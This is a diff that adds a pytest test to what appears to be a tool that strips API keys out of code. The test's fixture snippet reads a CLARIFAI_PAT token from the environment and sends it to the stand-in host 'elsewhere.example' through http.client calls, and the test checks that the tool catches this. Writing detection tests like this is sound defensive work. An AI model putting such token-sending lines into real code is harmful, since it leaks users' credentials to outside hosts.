@@ -317,6 +317,16 @@ def test_a_key_in_anything_that_is_sent_elsewhere_is_taken_out(into):
     assert [edit.parts for edit in what.edits if edit.line == 3] == [(Value.NO_KEY,)]
 
 
+@pytest.mark.parametrize("sends", ["putrequest('GET', '/' + PAT)", "endheaders(PAT)", "send(PAT)"])
+def test_a_key_that_a_connection_sends_elsewhere_line_by_line_is_taken_out(sends):
+    _, what = found(
+        "import http.client, os\nPAT = os.environ['CLARIFAI_PAT']\n"
+        f"c = http.client.HTTPSConnection('elsewhere.example')\nc.{sends}\n"
+    )
+    assert what.foreign == {"elsewhere.example": 4}
+    assert [edit.parts for edit in what.edits if edit.line == 4] == [(Value.NO_KEY,)]
+
+
 KEYED = """
 from requests.auth import AuthBase
 class KeyAuth(AuthBase):
